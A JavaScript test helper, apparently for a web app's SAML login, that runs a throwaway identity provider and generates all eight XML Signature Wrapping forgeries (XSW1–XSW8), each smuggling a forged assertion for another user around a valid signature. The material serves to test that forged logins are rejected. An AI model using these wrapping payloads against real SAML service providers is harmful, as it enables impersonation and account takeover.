// A SAML identity provider as a key, a certificate and texts: it signs what it is told to, also wrongly.
//
//   const idp = makeIdp('https://idp.example');
//   const request = readRequest(url);                       // {id, relayState, acs, issuer}
//   const xml = idp.response({ request, nameId: 'ann', email: 'ann@acme.test' });
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { inflateRawSync } from 'node:zlib';
import { SignedXml } from 'xml-crypto';

const ENVELOPED = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';
const EXCLUSIVE = 'http://www.w3.org/2001/10/xml-exc-c14n#';
export const SHA256 = { signature: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256', digest: 'http://www.w3.org/2001/04/xmlenc#sha256' };
export const SHA1 = { signature: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1', digest: 'http://www.w3.org/2000/09/xmldsig#sha1' };

const newId = () => `_${randomBytes(12).toString('hex')}`;
const time = (seconds) => new Date(Date.now() + seconds * 1000).toISOString().replace(/\.\d+Z$/, 'Z');

export function readRequest(url) {
  const query = new URL(url).searchParams;
  const xml = inflateRawSync(Buffer.from(query.get('SAMLRequest'), 'base64')).toString();
  const of = (name) => new RegExp(`${name}="([^"]*)"`).exec(xml)[1];
  return { xml, relayState: query.get('RelayState'), id: of(' ID'), acs: of('AssertionConsumerServiceURL'), issuer: /<saml:Issuer>([^<]*)/.exec(xml)[1], destination: of('Destination') };
}

export function makeIdp(entityId, { bits = 2048 } = {}) {
  const folder = mkdtempSync(path.join(os.tmpdir(), 'chatpad-idp-'));
  execFileSync('openssl', ['req', '-x509', '-newkey', `rsa:${bits}`, '-nodes', '-days', '2', '-subj', '/CN=idp', '-keyout', `${folder}/key`, '-out', `${folder}/cert`], { stdio: 'ignore' });
  const privateKey = readFileSync(`${folder}/key`, 'utf8');
  const publicCert = readFileSync(`${folder}/cert`, 'utf8');
  rmSync(folder, { recursive: true });
  const certificate = publicCert.replace(/-----[A-Z ]+-----|\s/g, '');

  // Signs the element the XPath names; the signature goes behind its Issuer.
  function sign(xml, xpath, { algorithms = SHA256, transforms = [ENVELOPED, EXCLUSIVE], key = privateKey, cert = publicCert } = {}) {
    const signer = new SignedXml({ privateKey: key, publicCert: cert, signatureAlgorithm: algorithms.signature, canonicalizationAlgorithm: EXCLUSIVE });
    signer.addReference({ xpath, transforms, digestAlgorithm: algorithms.digest });
    signer.computeSignature(xml, { prefix: 'ds', location: { reference: `${xpath}/*[local-name(.)='Issuer']`, action: 'after' } });
    return signer.getSignedXml();
  }

  function assertion({ request, nameId = 'person-1', format = 'urn:oasis:names:tc:SAML:2.0:nameid-format:persistent', email, groups = [], issuer = entityId, audience = request.issuer,
    recipient = request.acs, inResponseTo = request.id, from = -30, until = 120, id = newId() }) {
    const attributes = [['email', email], ['displayName', email && 'A Person'], ...groups.map((group) => ['groups', group])].filter(([, value]) => value);
    return `<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="${id}" Version="2.0" IssueInstant="${time(0)}"><saml:Issuer>${issuer}</saml:Issuer>`
      + `<saml:Subject><saml:NameID Format="${format}">${nameId}</saml:NameID><saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData InResponseTo="${inResponseTo}" Recipient="${recipient}" NotOnOrAfter="${time(until)}"/></saml:SubjectConfirmation></saml:Subject>`
      + `<saml:Conditions NotBefore="${time(from)}" NotOnOrAfter="${time(until)}"><saml:AudienceRestriction><saml:Audience>${audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions>`
      + `<saml:AuthnStatement AuthnInstant="${time(0)}"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:Password</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>`
      + `<saml:AttributeStatement>${attributes.map(([name, value]) => `<saml:Attribute Name="${name}"><saml:AttributeValue>${value}</saml:AttributeValue></saml:Attribute>`).join('')}</saml:AttributeStatement></saml:Assertion>`;
  }

  const envelope = (inside, { request, issuer = entityId, destination = request.acs, inResponseTo = request.id, status = 'Success', id = newId() }) =>
    `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="${id}" Version="2.0" IssueInstant="${time(0)}" Destination="${destination}" InResponseTo="${inResponseTo}"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">${issuer}</saml:Issuer>`
    + `<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:${status}"/></samlp:Status>${inside}</samlp:Response>`;

  const ASSERTION = "//*[local-name(.)='Assertion']";
  const RESPONSE = "/*[local-name(.)='Response']";
  return {
    entityId, certificate, sign, assertion, envelope, ASSERTION, RESPONSE,
    // `signed`: assertion, response, both or none.
    response(options) {
      const { signed = 'assertion', signing = {} } = options;
      let xml = envelope(assertion(options), { ...options, ...options.envelope });
      if (signed === 'assertion' || signed === 'both') xml = sign(xml, ASSERTION, signing);
      if (signed === 'response' || signed === 'both') xml = sign(xml, RESPONSE, signing);
      return xml;
    },
    metadata: ({ cert = certificate, sso = 'https://idp.example/sso', head = '' } = {}) =>
      `<?xml version="1.0"?>${head}<EntityDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata" entityID="${entityId}"><IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">`
      + `<KeyDescriptor use="signing"><KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#"><X509Data><X509Certificate>${cert}</X509Certificate></X509Data></KeyInfo></KeyDescriptor>`
      + `<SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="${sso}"/></IDPSSODescriptor></EntityDescriptor>`,
  };
}

// The eight ways to wrap a signature (Somorovsky et al., "On Breaking SAML", 2012). `good` is a response
// whose assertion (XSW3 to 8) or whole (XSW1, 2) is signed; the evil copy names somebody else.
export function wrappings(good, goodWhole, evilName) {
  const part = (xml, name) => new RegExp(`<${name}[ >][\\s\\S]*</${name}>`).exec(xml)[0];
  const assertion = part(good, 'saml:Assertion');
  const signature = part(assertion, 'ds:Signature');
  const bare = assertion.replace(signature, '');
  const evil = bare.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${evilName}`).replace(/ ID="[^"]*"/, ' ID="_evil"');
  const put = (inside) => good.replace(assertion, inside);
  const into = (xml, inside) => xml.replace('</saml:Issuer>', `</saml:Issuer>${inside}`);
  const end = (xml, inside) => xml.replace(/<\/saml:Assertion>$/, `${inside}</saml:Assertion>`);
  const wholeSignature = part(goodWhole, 'ds:Signature');
  const wholeBare = goodWhole.replace(wholeSignature, '');
  const evilWhole = wholeBare.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${evilName}`).replace(/ ID="[^"]*"/, ' ID="_evil"');
  const object = (xml) => signature.replace('</ds:Signature>', `<ds:Object>${xml}</ds:Object></ds:Signature>`);
  return {
    XSW1: into(evilWhole, wholeSignature.replace('</ds:Signature>', `<ds:Object>${wholeBare}</ds:Object></ds:Signature>`)),
    XSW2: into(evilWhole, wholeBare + wholeSignature),
    XSW3: put(evil + assertion),
    XSW4: put(end(evil, assertion)),
    XSW5: put(into(evil, signature) + bare),
    XSW6: put(into(evil, object(bare))),
    XSW7: put(`<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`),
    XSW8: put(`${evil.replace('</saml:Issuer>', `</saml:Issuer>${signature}`).replace('<ds:KeyInfo>', `<ds:Object>${bare}</ds:Object><ds:KeyInfo>`)}`),
  };
}
